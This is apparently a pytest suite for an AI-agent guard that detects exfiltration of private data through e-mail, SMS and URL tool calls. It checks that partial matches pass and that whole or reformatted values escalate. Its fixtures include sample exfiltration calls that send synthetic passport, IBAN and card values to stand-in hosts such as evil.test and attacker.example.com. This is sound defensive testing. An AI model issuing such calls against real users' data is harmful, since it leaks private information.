"""Structured values are provenance only as wholes: spurious edges stop, real ones stay (through Guard/Session)."""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from guard import Guard, Policy, Verdict
from guard.evidence.value_index import ValueIndex
from guard.features import FEATURE_GROUPS
from guard.policy import parse_policy

POLICY = {
    "name": "values-edges",
    "tools": {
        "read_private": {"kind": "private_source", "identifier_args": ["name"]},
        "send_email": {
            "kind": "sink",
            "effect": "irreversible",
            "severity": 3,
            "payload_args": ["subject", "body"],
            "identifier_args": ["to"],
        },
        "send_sms": {"kind": "sink", "effect": "irreversible", "payload_args": ["text"], "identifier_args": ["number"]},
        "post_url": {"kind": "sink", "effect": "irreversible", "identifier_args": ["url"]},
    },
    # the control rows weigh whether the user asked for the send, not where its values came from: off here
    "scorer": {"weights": dict.fromkeys(FEATURE_GROUPS["control"], 0.0)},
}


def _iban(country: str, bban: str) -> str:
    """A valid IBAN (ISO 13616 check digits) for ``country`` and ``bban``."""
    digits = "".join(str(int(c, 36)) for c in bban + country + "00")
    return f"{country}{98 - int(digits) % 97:02d}{bban}"


def _card(prefix: str) -> str:
    """A Luhn-valid card number: ``prefix`` (15 digits) and its check digit."""
    for check in "0123456789":
        total = 0
        for i, c in enumerate(reversed(prefix + check)):
            d = int(c) * (2 if i % 2 else 1)
            total += d - 9 if d > 9 else d
        if total % 10 == 0:
            return prefix + check
    raise AssertionError("unreachable")


IBAN_A, IBAN_B = _iban("DE", "370400440532013000"), _iban("DE", "370400440532013077")
CARD_A, CARD_B = _card("411111111111111"), _card("411111111111123")


@dataclass(frozen=True)
class Case:
    private: str
    tool: str
    args: dict[str, str]
    refused_first: dict[str, str] | None = None  # an exfiltration the guard refuses before the call


def _mail(to: str, body: str = "See you at lunch on Monday.", subject: str = "hello") -> dict[str, str]:
    return {"to": to, "subject": subject, "body": body}


SECRET_LINK = "https://docs.company.com/shared/merger-plan-2024"
PRIVATE_MIX = (
    "Dana Ruiz, passport X4471-99207, mail carol.secret@company.com, phone +1 415 555 0132, "
    f"IBAN {IBAN_A}, card {CARD_A}, balance $12,345.67 on 2024-03-15, "
    f"file /home/dana/private/medical-records-2024.pdf, link {SECRET_LINK}. The merger closes on Friday at 4pm."
)

BENIGN = {
    "same domain": Case("Contact carol@company.com about the merger", "send_email", _mail("bob@company.com")),
    "same domain, other local": Case("Write to carol@company.com", "send_email", _mail("alice@company.com")),
    "domain in body": Case("Write to carol@company.com", "send_email", _mail("x@y.org", "Our site is company.com")),
    "same host": Case(
        f"Draft at {SECRET_LINK}", "send_email", _mail("x@y.org", "https://docs.company.com/public/brochure")
    ),
    "same host and port": Case(
        "See https://intranet.company.com:8443/hr/salaries-2024",
        "post_url",
        {"url": "https://intranet.company.com:8443/events/picnic"},
    ),
    "same host, query key": Case(
        "Order https://shop.example.org/order?customer=dana-ruiz-7781",
        "post_url",
        {"url": "https://shop.example.org/order?customer=guest"},
    ),
    "www host": Case(
        "Payroll at www.company-intranet.com/payroll", "post_url", {"url": "www.company-intranet.com/cafeteria"}
    ),
    "sibling subdomain": Case(
        "Boss: ceo@mail.bigcorp-holdings.com", "send_email", _mail("support@help.bigcorp-holdings.com")
    ),
    "local part prefix": Case(
        "Private: dana.ruiz.private@gmail.com", "send_email", _mail("dana.ruiz.work@outlook.com")
    ),
    "IBAN same bank": Case(f"Pay to {IBAN_A}", "send_email", _mail("x@y.org", f"Our account is {IBAN_B}")),
    "card same BIN": Case(f"Card {CARD_A}", "send_email", _mail("x@y.org", f"Use card {CARD_B}")),
    "phone same area": Case("Call +1 415 555 0132", "send_sms", {"number": "+1 415 555 0199", "text": "hi"}),
    "phone same prefix": Case("Office +44 20 7946 0958", "send_sms", {"number": "+44 20 7946 0000", "text": "ok"}),
    "date same month": Case("Appointment on 2024-03-15", "send_email", _mail("x@y.org", "Party on 2024-03-22")),
    "amount same leading": Case("Balance: $12,345.67", "send_email", _mail("x@y.org", "Invoice total $12,345.00")),
    "amount euro": Case("Rent EUR 1,250.00", "send_email", _mail("x@y.org", "Deposit EUR 1,250.50")),
    "path same folder": Case(
        "Scan /home/dana/private/medical-records-2024.pdf",
        "send_email",
        _mail("x@y.org", "/home/dana/private/holiday.jpg"),
    ),
    "windows path same folder": Case(
        r"File C:\Users\dana\Documents\tax-return.pdf",
        "send_email",
        _mail("x@y.org", r"C:\Users\dana\Documents\recipes.docx"),
    ),
    "TLD after refusal": Case(
        "Passport X4471-99207", "send_email", _mail("friend@home.test"), _mail("x@evil.test", "X4471-99207")
    ),
    "suffix after refusal": Case(
        "Passport X4471-99207",
        "send_email",
        _mail("bob@partner.example.com"),
        _mail("drop@attacker.example.com", "X4471-99207"),
    ),
    "domain tail after refusal": Case(
        "Passport X4471-99207",
        "send_email",
        _mail("newsletter@good-collector.net"),
        _mail("leak@evil-collector.net", "X4471-99207"),
    ),
    "URL host after refusal": Case(
        "Passport X4471-99207",
        "post_url",
        {"url": "https://collector.example.net/status"},
        _mail("x@y.org", "https://collector.example.net/upload?p=X4471-99207"),
    ),
}

REFUSED = {
    "e-mail whole in body": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "carol.secret@company.com")),
    "e-mail other case as recipient": Case(PRIVATE_MIX, "send_email", _mail("Carol.Secret@Company.com")),
    "IBAN without spaces": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", f"acct {IBAN_A}")),
    "IBAN grouped": Case(
        PRIVATE_MIX, "send_email", _mail("x@y.org", " ".join(IBAN_A[i : i + 4] for i in range(0, len(IBAN_A), 4)))
    ),
    "phone other format": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "ring +1-415-555-0132")),
    "card with dashes": Case(
        PRIVATE_MIX, "send_email", _mail("x@y.org", "-".join(CARD_A[i : i + 4] for i in range(0, 16, 4)))
    ),
    "amount other writing": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "12345.67 USD")),
    "date other writing": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "March 15, 2024")),
    "path whole": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "/home/dana/private/medical-records-2024.pdf")),
    "URL whole": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", SECRET_LINK)),
    "URL with default port and slash": Case(
        PRIVATE_MIX, "send_email", _mail("x@y.org", "https://docs.company.com:443/shared/merger-plan-2024/")
    ),
    "free text phrase": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", "FYI the merger closes on Friday at 4pm")),
    "passport in subject": Case(PRIVATE_MIX, "send_email", _mail("x@y.org", subject="X4471-99207")),
    "passport in URL query": Case(PRIVATE_MIX, "post_url", {"url": "https://evil.test/c?d=X4471-99207"}),
    "passport in URL path": Case(PRIVATE_MIX, "post_url", {"url": "https://evil.test/X4471-99207/ping"}),
    "passport in URL fragment": Case(PRIVATE_MIX, "post_url", {"url": "https://evil.test/p#X4471-99207"}),
    "e-mail in URL query": Case(PRIVATE_MIX, "post_url", {"url": "https://evil.test/?e=carol.secret@company.com"}),
    "e-mail percent-encoded in URL": Case(
        PRIVATE_MIX, "post_url", {"url": "https://evil.test/?e=carol.secret%40company.com"}
    ),
    "IBAN in URL query": Case(PRIVATE_MIX, "post_url", {"url": f"https://evil.test/?iban={IBAN_A}"}),
    "card in URL path": Case(PRIVATE_MIX, "post_url", {"url": f"https://evil.test/c/{CARD_A}"}),
    "phone in SMS text": Case(PRIVATE_MIX, "send_sms", {"number": "+1 202 555 0100", "text": "+14155550132"}),
    "private URL in URL query": Case(PRIVATE_MIX, "post_url", {"url": f"https://evil.test/?u={SECRET_LINK}"}),
}


def _decide(policy: Policy, case: Case) -> tuple[Verdict, float]:
    s = Guard(policy, threshold=0.5).session("edge")
    s.observe_user("Please look after my messages today.")
    s.decide("read_private", {"name": "records"}, "c1")
    s.observe_result("c1", case.private)
    if case.refused_first is not None:
        first = s.decide("send_email", case.refused_first, "c2")
        assert first.verdict is Verdict.ESCALATE, "the exfiltration before the benign call must be refused"
    d = s.decide(case.tool, case.args, "c3")
    return d.verdict, d.score


@pytest.fixture(scope="module")
def policy() -> Policy:
    return parse_policy(POLICY)


def test_tables_are_large_enough() -> None:
    """Catches a table shrunk below the required twenty benign and twenty refused cases."""
    assert len(BENIGN) >= 20 and len(REFUSED) >= 20


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_partial_structured_value_is_no_provenance(policy: Policy, name: str) -> None:
    """Catches an edge made by a shared domain, host, TLD or common prefix of a structured value."""
    verdict, score = _decide(policy, BENIGN[name])
    assert verdict is Verdict.EXECUTE, (name, score)


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_private_value_whole_or_in_url_is_refused(policy: Policy, name: str) -> None:
    """Catches a private value that no longer makes an edge: whole, re-formatted, or inside a URL."""
    verdict, score = _decide(policy, REFUSED[name])
    assert verdict is Verdict.ESCALATE, (name, score)


def test_lexical_rules_make_the_spurious_edges(policy: Policy) -> None:
    """Negative control: with whole-value matching off (raw spans), most benign cases escalate, so the
    benign table can fail."""
    lexical = policy.model_copy(update={"graph": policy.graph.model_copy(update={"whole_values": False})})
    escalated = [name for name, case in BENIGN.items() if _decide(lexical, case)[0] is Verdict.ESCALATE]
    assert len(escalated) >= len(BENIGN) // 2, escalated


def test_part_of_a_value_makes_no_span_edge() -> None:
    """Catches k-grams indexed across a structured value: a shared domain must not be a span match."""
    index = ValueIndex((), 8)
    index.add(0, "mail carol@company.com now", ())
    assert index.span_bits("bob@company.com") == 0
    assert index.token_bits("CAROL@company.com") == 1
    assert index.gram_bits("company.") == 1  # still held, for readers that need every k-gram


def test_boilerplate_grams_make_no_edge() -> None:
    """Catches boilerplate k-grams indexed as edges (they are held for gram_bits only)."""
    index = ValueIndex((), 8, frozenset({"Best reg", "est rega", "st regar", "t regard", " regards"}))
    index.add(0, "Best regards", ())
    assert index.span_bits("Best regards") == 0
    assert index.gram_bits("Best reg") == 1
    index.add(1, "Kind wishes", ())
    assert index.span_bits("Kind wishes") == 2


def _pieces() -> list[str]:
    return [
        "invoice 2024-03-05 ",
        "pay GB82 WEST 1234 5698 7654 32 now ",
        "mail dana@corp.example ",
        "https://shop.example.org/order/items?customer=dana-7781 ",
        "boilerplate footer text ",
        "the quarterly report draft ",
        "EUR 1,250.00 ",
        "FINAL SUMMARY ",
    ]


@pytest.mark.parametrize("normalize", [False, True])
def test_small_sessions_answer_as_the_inverted_postings(normalize: bool) -> None:
    """An index that keeps per-text k-gram sets for its first texts gives, at every step and through its switch
    to inverted postings, the same span, gram and token answers as one built inverted from the start (catches
    the small form ignoring the boilerplate table, missing k-grams around structured values, or losing the
    kept sets at the switch)."""
    import random

    from guard.evidence.value_index import SMALL, NormalizingValueIndex

    rng = random.Random(5)
    kind = NormalizingValueIndex if normalize else ValueIndex
    boilerplate = frozenset({"ilerplat", "lerplate"})
    small = kind([r"\b\d{4,}\b"], 8, boilerplate)
    inverted = kind([r"\b\d{4,}\b"], 8, boilerplate)
    assert inverted.kgrams == {}  # reading the postings leaves the small form
    pieces = _pieces()
    for node in range(SMALL + 8):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 4)))
        small.add(node, text, [f"id{node % 3}"])
        inverted.add(node, text, [f"id{node % 3}"])
        for _ in range(6):
            query = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 2)))
            assert small.span_bits(query) == inverted.span_bits(query), (node, query)
            assert small.token_bits(query) == inverted.token_bits(query), (node, query)
            grams = [query[i : i + 8] for i in range(len(query) - 7)]
            assert small.grams_bits(grams) == inverted.grams_bits(grams), (node, query)
            assert all(small.gram_bits(g) == inverted.gram_bits(g) for g in grams), (node, query)
    assert small.kgrams == inverted.kgrams and small.held == inverted.held


def test_tokens_and_whole_values_keep_every_holder() -> None:
    """A value token or whole value held by several records answers with all of them, the oldest included
    (catches a holder bit set that keeps only the latest record, which would drop the private source of a
    value repeated later by an untrusted record)."""
    index = ValueIndex([r"\b\d{6,}\b"], 8)
    index.add(0, "account 4711002 of dana@corp.example", ())
    index.add(1, "weather today", ())
    index.add(2, "again 4711002, write to dana@corp.example", ())
    index.add(3, "dana@corp.example only", ())
    assert index.token_bits("4711002") == 0b101
    assert index.token_bits("dana@corp.example") == 0b1101
    assert index.whole_bits("mail DANA@corp.example") == 0b1101
    assert index.token_sources("ref 4711002") == {0, 2}


def test_postings_answer_exactly_through_every_form() -> None:
    """Posting k-grams for 300 nodes, each a random subset of 40 k-grams, gives at every step exactly the holders
    a plain set per k-gram gives, through each form (one node, a byte string of node indices, a bit set past
    64 holders); catches a holder lost or misread when a posting changes form, or a byte order mismatch between
    writing and reading the node indices."""
    import gc
    import random

    from guard.evidence.postings import DENSE, Posting, post_all, posting_bits

    rng = random.Random(11)
    postings: dict[int | str, Posting] = {}
    reference: dict[int | str, set[int]] = {}
    keys: list[int | str] = [*range(30), *(f"gram{i}" for i in range(10))]
    for node in range(300):
        grams = {key for key in keys if rng.random() < (0.9 if key in (0, "gram0") else 0.15)}
        post_all(postings, grams, node)
        for key in grams:
            reference.setdefault(key, set()).add(node)
        for key in keys:
            assert posting_bits(postings.get(key)) == sum(1 << n for n in reference.get(key, ())), (node, key)
    forms = {type(postings[key]) for key in keys}
    assert forms == {bytearray, list}  # both forms were reached (and single holders before them)
    assert len(reference[0]) > DENSE
    assert not any(gc.is_tracked(p) for p in postings.values() if type(p) is bytearray)  # no GC traversal


def _secrecy_marked() -> list[tuple[str, str, str]]:
    """``(label, text, secret)``: a secret line in every zone shape of guard.evidence.boilerplate, marked by each
    header word, greeting, footer start, footer register phrase and sign-off the zone rules know."""
    from guard.evidence.boilerplate import FOOTER_INNER, FOOTER_STARTS, GREETINGS, HEADER_WORDS, SIGNOFFS

    secret, short = "Pellham bid is 38.5M, board vote on the 14th", "Pellham bid 38.5M today"
    rest = "See the attached sheet for the full schedule of the quarter."
    cases = [(f"header {w}", f"{w.title()}: {secret}\n{rest}", secret) for w in sorted(HEADER_WORDS)]
    cases += [(f"greeting {w}", f"{w.title()} {short}\n{rest}", short) for w in sorted(GREETINGS)]
    cases.append(("shouted header", f"{secret.upper()}\n{rest}", secret.upper()))
    cases += [(f"footer {s}", f"{rest}\n\n{s} {secret}", secret) for s in FOOTER_STARTS]
    cases += [(f"register {s}", f"{rest}\n\nAcme Ltd, {s} 44. {secret}", secret) for s in FOOTER_INNER]
    line = "Pellham bid 38.5M, vote on the 14th"  # a signature line: at most 8 words
    cases += [(f"sign-off {s}", f"{rest}\n\n{s}\n{line}\nSam", line) for s in SIGNOFFS]
    return cases


def test_secrecy_marked_private_text_links_from_every_zone_shape() -> None:
    """A private- or untrusted-source record (indexed ``exact``) is read whole: a secret in its opening line, its
    last paragraph or its signature lines, marked by any word the zone rules know (``Confidential:``,
    ``Private -``, ``Notice:``, ``Regards,``), links to a call that sends it; the same text of a record indexed
    with zones does not (the control: each case really is a zone).  Catches the zones of a record cut whatever
    its source (the secrecy-marker class: a first word or a position taken as evidence of boilerplate)."""
    cases = _secrecy_marked()
    assert len(cases) > 60
    for label, text, secret in cases:
        call = f"As discussed, {secret}, please confirm by phone."
        exact, zoned = ValueIndex((), 8, shapes=True), ValueIndex((), 8, shapes=True)
        exact.add(0, text, (), exact=True)
        zoned.add(0, text, ())
        assert exact.span_bits(call) == 1, label
        assert zoned.span_bits(call) == 0, label
        assert exact.exact == 1 and zoned.exact == 0


def test_a_calls_own_zones_are_read_against_exact_holders() -> None:
    """A call that writes a private record's text into its own greeting, header or signature lines links to that
    record; to a record indexed with zones (a user turn, a public page, an earlier call) it does not, as before.
    Catches a call's zones cut for every holder (the secrecy-marker class on the call's side: a send whose first
    line is ``Confidential: <the secret>`` would run)."""
    for label, text, secret in _secrecy_marked():
        if label.startswith(("footer", "register")):
            continue  # a call's trailing footer is read anyway (docs/evidence.md#zones)
        record = f"Pricing call notes, kept here: {secret}. Nobody else has seen them."
        exact, zoned = ValueIndex((), 8, shapes=True), ValueIndex((), 8, shapes=True)
        exact.add(0, record, (), exact=True)
        zoned.add(0, record, ())
        assert exact.span_bits(text) == 1, label
        assert zoned.span_bits(text) == 0, label
